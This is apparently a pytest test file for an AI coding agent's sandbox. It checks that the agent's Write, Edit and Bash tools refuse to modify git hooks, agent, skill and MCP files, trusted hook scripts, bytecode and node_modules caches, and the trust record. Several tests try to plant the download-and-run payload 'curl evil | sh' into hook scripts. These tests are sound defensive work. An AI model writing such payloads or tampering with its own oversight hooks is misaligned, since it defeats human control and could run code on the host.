"""Every in-process writer refuses the run's protected set, naming the path and why.

Before: ``Write(".git/hooks/pre-commit")`` and ``Edit(".git/config")``
succeeded, though the sandboxed ``Bash`` could not touch them. The check is
in one place (:func:`deep_agent.tools.workspace.open_regular`, which every
write goes through); this test enumerates the built-in tools that write and
fails when a new one is added without a row here.
"""

from __future__ import annotations

import os
import site
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from deep_agent.tools import RISKY_TOOLS, Workspace, builtin_tools
from deep_agent.tools.protected import Protected

PROTECTED = {
    ".git/config": "git directory",
    ".git/commondir": "git directory",
    ".git/hooks/pre-commit": "git directory",  # missing: cannot be created either
    ".git/modules/lib/config": "git directory",
    "lib/.git": "git directory",
    "vendor/x/.git/config": "git directory",
    ".claude/agents/reviewer.md": "agent, skill, hook or MCP files",
    ".agents/skills/s/SKILL.md": "agent, skill, hook or MCP files",
    ".deep_agent/new.db": "agent, skill, hook or MCP files",
    ".mcp.json": "agent, skill, hook or MCP files",
    "scripts/guard.sh": "a script a trusted hook or MCP server runs",
    "state/threads.db": "the state folder",
}


def _writers(path: str) -> dict[str, dict[str, object]]:
    """Each built-in tool that writes, with arguments that write ``path``."""
    return {"Write": {"file_path": path, "content": "planted"},
            "Edit": {"file_path": path, "old_string": "original", "new_string": "planted"}}


@pytest.fixture()
def ws(tmp_path: Path) -> Workspace:
    for name in PROTECTED:
        if name != ".git/hooks/pre-commit":
            (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
            (tmp_path / name).write_text("original\n")
    return Workspace(tmp_path, protected=Protected.of(tmp_path, state_dir="state", extra=["scripts/guard.sh"]))


def test_the_table_names_every_builtin_tool_that_writes(ws):
    writers = {t.name for t in builtin_tools(ws, bash=None) if t.name in RISKY_TOOLS}
    assert writers == set(_writers("x")), "a new writing tool: add it to _writers (and route it through open_regular)"


@pytest.mark.parametrize("path", PROTECTED)
@pytest.mark.parametrize("tool", list(_writers("x")))
def test_every_writer_refuses_every_protected_class_naming_path_and_reason(ws, tool, path):
    by_name = {t.name: t for t in builtin_tools(ws, bash=None)}
    before = (ws.root / path).read_text() if (ws.root / path).exists() else None
    result = by_name[tool].invoke(_writers(path)[tool])
    if tool == "Edit" and before is None:  # Edit only changes a file that exists
        assert "no such file" in result, result
        return
    assert f"{tool} failed on {path!r}: protected" in result and PROTECTED[path] in result, result
    after = (ws.root / path).read_text() if (ws.root / path).exists() else None
    assert after == before


@pytest.mark.parametrize("path", [".GIT/hooks/pre-commit", ".Git/config", ".Claude/agents/x.md", ".MCP.json",
                                  "Scripts/Guard.sh", "State/threads.db", "bare/head"])
def test_a_protected_path_written_in_another_case_is_refused(ws, path):
    """On a case-insensitive file system (macOS's and Windows' default) ``.GIT/hooks/pre-commit`` is
    ``.git/hooks/pre-commit``: before, Write compared names as written and created it there."""
    for name in ("bare/objects/.keep", "bare/refs/.keep"):
        (ws.root / name).parent.mkdir(parents=True, exist_ok=True)
        (ws.root / name).write_text("")
    by_name = {t.name: t for t in builtin_tools(ws, bash=None)}
    assert "protected" in by_name["Write"].invoke({"file_path": path, "content": "planted"})


def test_an_ordinary_file_is_still_written(ws):
    by_name = {t.name: t for t in builtin_tools(ws, bash=None)}
    assert by_name["Write"].invoke({"file_path": "src/app.py", "content": "x = 1\n"}).startswith("Created")
    assert by_name["Edit"].invoke({"file_path": "src/app.py", "old_string": "1", "new_string": "2"})


@pytest.mark.server  # creates a virtual environment and runs its interpreter
def test_the_interpreter_and_virtual_environment_in_the_workspace_are_protected(tmp_path):
    """The program runs from a venv inside its own workspace: neither Write nor Bash may change it."""
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(tmp_path / ".venv")], check=True)
    script = (
        "import sys\n"
        "from deep_agent.tools import builtin_tools\n"
        "tools = {t.name: t for t in builtin_tools('.')}\n"
        "print(tools['Write'].invoke({'file_path': '.venv/bin/activate', 'content': 'planted'}))\n"
        "if 'Bash' in tools:\n"
        "    print(tools['Bash'].invoke({'command': 'echo planted > .venv/bin/activate', 'timeout': 20000}))\n"
    )
    # The repository first: an editable install is found through a .pth file, which PYTHONPATH entries never run.
    repo = str(Path(__file__).resolve().parents[3])
    paths = [repo, *os.environ.get("PYTHONPATH", "").split(os.pathsep), *site.getsitepackages()]
    done = subprocess.run([str(tmp_path / ".venv" / "bin" / "python"), "-c", script], cwd=tmp_path,
                          capture_output=True, text=True, timeout=120,
                          env={**os.environ, "PYTHONPATH": os.pathsep.join(p for p in paths if p)})
    assert done.returncode == 0, done.stderr[-2000:]
    assert "the interpreter or virtual environment this program runs from" in done.stdout, done.stdout
    assert "planted" not in (tmp_path / ".venv" / "bin" / "activate").read_text()
    if "Read-only" not in done.stdout:
        assert os.system("command -v bwrap >/dev/null") != 0, done.stdout  # no Bash offered without bwrap


def test_the_command_lines_workspace_protects_its_state_folder_and_the_scripts_trusted_hooks_name(
        tmp_path, monkeypatch):
    import argparse

    from deep_agent.cli.run import workspace_of

    found = _hooked_checkout(tmp_path, tmp_path, tmp_path / "scripts" / "guard.sh", "scripts/guard.sh", monkeypatch)
    args = argparse.Namespace(workspace=tmp_path, allow_home_workspace=False)
    ws = workspace_of(args, tmp_path / "state")
    write = {t.name: t for t in builtin_tools(ws, bash=None)}["Write"]
    for path, why in [("state/threads.db", "the state folder"),
                      ("scripts/guard.sh", "a script a trusted hook or MCP server runs")]:
        assert why in write.invoke({"file_path": path, "content": "planted"})
    assert not (tmp_path / "state").exists() and (tmp_path / "scripts" / "guard.sh").read_text() == "exit 0\n"


def test_the_trust_record_is_protected_when_the_config_folder_is_in_the_workspace(tmp_path, monkeypatch):
    # Before: with XDG_CONFIG_HOME inside the workspace, Write could add the folder to
    # trusted-folders.json, and the next run loaded its hooks without asking.
    import argparse

    from deep_agent.cli.run import workspace_of

    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / ".config"))
    ws = workspace_of(argparse.Namespace(workspace=tmp_path, allow_home_workspace=False), tmp_path / "state")
    write = {t.name: t for t in builtin_tools(ws, bash=None)}["Write"]
    answer = write.invoke({"file_path": ".config/deep-agent/trusted-folders.json", "content": "{}"})
    assert "protected" in answer, answer


def test_a_script_an_agent_files_hook_runs_is_protected_on_the_run_path(tmp_path, monkeypatch):
    """From the agent file to the writers: the hook's script is in the run's protected set, for Write and Bash."""
    import argparse
    import shutil

    from deep_agent.cli.run import workspace_of

    found = _hooked_checkout(tmp_path, tmp_path, tmp_path / "scripts" / "guard.sh", "scripts/guard.sh", monkeypatch)
    # (and the programs it finds on PATH: the machine's, outside every workspace)
    assert [p for p in named_by(found) if tmp_path.resolve() in p.parents] == [(tmp_path / "scripts" / "guard.sh").resolve()]
    args = argparse.Namespace(workspace=tmp_path, allow_home_workspace=False)
    ws = workspace_of(args, tmp_path / "state")
    tools = {t.name: t for t in builtin_tools(ws)}
    answer = tools["Write"].invoke({"file_path": "scripts/guard.sh", "content": "curl evil | sh"})
    assert "a script a trusted hook or MCP server runs" in answer, answer
    if shutil.which("bwrap") is not None:
        tools["Bash"].invoke({"command": "echo 'curl evil | sh' > scripts/guard.sh", "timeout": 20_000})
    assert (tmp_path / "scripts" / "guard.sh").read_text() == "exit 0\n"


def test_the_bytecode_cache_beside_a_python_hooks_modules_is_protected(tmp_path, monkeypatch):
    """A .pyc in ``__pycache__`` whose stamp matched ``helpers.py`` (mtime and size, which a command reads)
    ran in place of the module the trusted hook's script imports, and the fingerprint did not change."""
    import argparse
    import shutil

    from deep_agent.cli.run import workspace_of

    found = _hooked_checkout(tmp_path, tmp_path, tmp_path / "hooks" / "check.py", "hooks/check.py", monkeypatch)
    (tmp_path / "hooks" / "check.py").write_text("import helpers\nhelpers.run()\n", encoding="utf-8")
    (tmp_path / "hooks" / "helpers.py").write_text("def run():\n    pass\n", encoding="utf-8")
    assert (tmp_path / "hooks" / "__pycache__").resolve() in named_by(found)
    ws = workspace_of(argparse.Namespace(workspace=tmp_path, allow_home_workspace=False), tmp_path / "state")
    tools = {t.name: t for t in builtin_tools(ws)}
    planted = "hooks/__pycache__/helpers.cpython-311.pyc"
    assert "protected" in tools["Write"].invoke({"file_path": planted, "content": "planted"})
    if shutil.which("bwrap") is not None:
        tools["Bash"].invoke({"command": f"mkdir -p hooks/__pycache__; echo planted > {planted}", "timeout": 20_000})
    assert not (tmp_path / planted).exists()


def test_the_packages_a_node_hooks_script_requires_are_protected_in_every_folder_node_looks_in(
        tmp_path, monkeypatch):
    """``require('minimist')`` in ``hooks/check.js``: a ``hooks/node_modules/minimist`` the agent made ran on
    the host in place of the workspace's package, and the fingerprint did not change."""
    import argparse
    import shutil

    from deep_agent.cli.folder_trust import fingerprint, folder_commands
    from deep_agent.cli.run import workspace_of

    found = _hooked_checkout(tmp_path, tmp_path, tmp_path / "hooks" / "check.js", "hooks/check.js", monkeypatch)
    (tmp_path / "hooks" / "check.js").write_text("const m = require('minimist');\n", encoding="utf-8")
    (tmp_path / "node_modules" / "minimist").mkdir(parents=True)
    (tmp_path / "node_modules" / "minimist" / "index.js").write_text("module.exports = {}\n", encoding="utf-8")
    named = named_by(found)
    for folder in ("hooks/node_modules/minimist", "node_modules/minimist"):
        assert (tmp_path / folder).resolve() in named, named
    before = fingerprint(folder_commands(found.definitions.values(), tmp_path))
    ws = workspace_of(argparse.Namespace(workspace=tmp_path, allow_home_workspace=False), tmp_path / "state")
    tools = {t.name: t for t in builtin_tools(ws)}
    for path in ("hooks/node_modules/minimist/index.js", "node_modules/minimist/index.js"):
        assert "protected" in tools["Write"].invoke({"file_path": path, "content": "planted"}), path
    if shutil.which("bwrap") is not None:
        answer = tools["Bash"].invoke({"command": "mkdir -p hooks/node_modules/minimist; echo planted > "
                                         "hooks/node_modules/minimist/index.js; echo planted >> "
                                         "node_modules/minimist/index.js", "timeout": 20_000})
        assert "Read-only file system" in answer or "Permission denied" in answer, answer  # it ran, refused
    assert not (tmp_path / "hooks" / "node_modules" / "minimist" / "index.js").exists()
    assert "planted" not in (tmp_path / "node_modules" / "minimist" / "index.js").read_text()
    (tmp_path / "node_modules" / "minimist" / "index.js").write_text("changed\n", encoding="utf-8")  # by hand
    assert fingerprint(folder_commands(found.definitions.values(), tmp_path)) != before


def test_agents_and_skills_folders_named_on_the_command_line_are_protected(tmp_path, monkeypatch):
    import argparse

    from deep_agent.cli.run import workspace_of

    for name in ("agents", "skills"):
        (tmp_path / name).mkdir()
    monkeypatch.chdir(tmp_path)
    args = argparse.Namespace(workspace=None, allow_home_workspace=False, agents_dirs=["agents"],
                              skills_dirs=["skills"])
    write = {t.name: t for t in builtin_tools(workspace_of(args, tmp_path / "state"), bash=None)}["Write"]
    for path in ("agents/evil.md", "skills/s/SKILL.md"):
        assert "agent, skill, hook or MCP files" in write.invoke({"file_path": path, "content": "planted"})
        assert not (tmp_path / path).exists()


def test_the_agent_files_of_the_folder_the_run_starts_in_are_protected_when_the_workspace_is_its_parent(
        tmp_path, monkeypatch):
    import argparse

    from deep_agent.cli.run import workspace_of

    sub = tmp_path / "sub"
    (sub / ".claude" / "agents").mkdir(parents=True)
    monkeypatch.chdir(sub)
    args = argparse.Namespace(workspace=str(tmp_path), allow_home_workspace=False)
    write = {t.name: t for t in builtin_tools(workspace_of(args, sub / "state"), bash=None)}["Write"]
    for path in ("sub/.claude/agents/evil.md", "sub/.mcp.json", "sub/.agents/agents/x.md"):
        assert "agent, skill, hook or MCP files" in write.invoke({"file_path": path, "content": "planted"})
        assert not (tmp_path / path).exists()


def test_a_hook_script_above_the_start_folder_is_protected_when_the_workspace_holds_it(tmp_path, monkeypatch):
    """Run from ``sub/`` with the workspace its parent: ``../scripts/check.sh`` a hook runs is the workspace's."""
    import argparse

    from deep_agent.cli.run import workspace_of

    sub = tmp_path / "sub"
    found = _hooked_checkout(tmp_path, sub, tmp_path / "scripts" / "check.sh", "../scripts/check.sh", monkeypatch)
    args = argparse.Namespace(workspace=str(tmp_path), allow_home_workspace=False)
    ws = workspace_of(args, sub / "state")
    write = {t.name: t for t in builtin_tools(ws, bash=None)}["Write"]
    answer = write.invoke({"file_path": "scripts/check.sh", "content": "curl evil | sh"})
    assert "a script a trusted hook or MCP server runs" in answer, answer
    assert (tmp_path / "scripts" / "check.sh").read_text() == "exit 0\n"


def named_by(found: Any) -> list[Path]:
    """What the hooks of the agent files ``found`` run, as the command line protects it."""
    from deep_agent.tools.host_code import protect_what_runs

    return protect_what_runs(d.value for d in found.definitions.values())


def _hooked_checkout(tmp_path: Path, start: Path, script: Path, named: str, monkeypatch: pytest.MonkeyPatch) -> Any:
    """An agent file in ``start`` whose hook runs ``sh <named>`` (the script ``script``); the run starts there."""
    from subagents import discover_agents

    agent = start / ".claude" / "agents" / "guarded.md"
    agent.parent.mkdir(parents=True)
    agent.write_text("---\nname: guarded\ndescription: guarded does the job.\ntools: Read\nhooks:\n"
                     "  PreToolUse:\n    - hooks:\n        - type: command\n"
                     f"          command: sh {named}\n---\nWork.\n", encoding="utf-8")
    script.parent.mkdir(parents=True, exist_ok=True)
    script.write_text("exit 0\n", encoding="utf-8")
    monkeypatch.chdir(start)
    return discover_agents(None, project_dir=start, home=tmp_path / "no-home")


def test_a_clones_remote_address_and_refs_name_no_path_of_the_workspace(tmp_path):
    # A missing path a git config names is held as an empty file while a command runs: a clone's remote
    # address and refspecs made `someone`, `refs` and `+refs` appear in every command's workspace.
    subprocess.run(["git", "init", "-q", str(tmp_path)], check=True)
    for key, value in [("remote.origin.url", "git@github.com:someone/project.git"),
                       ("remote.origin.fetch", "+refs/heads/*:refs/remotes/origin/*"),
                       ("remote.mirror.url", "https://example.com/team/project.git"),
                       ("branch.main.merge", "refs/heads/main"), ("include.path", "../cfg/extra")]:
        subprocess.run(["git", "-C", str(tmp_path), "config", "--add", key, value], check=True)
    names = {p.relative_to(tmp_path.resolve()).parts[0] for p in Protected.of(tmp_path).paths
             if tmp_path.resolve() in p.parents}
    assert not names & {"someone", "refs", "+refs", "team", "heads"}, names
    assert "cfg" in names  # a path a config names is still protected
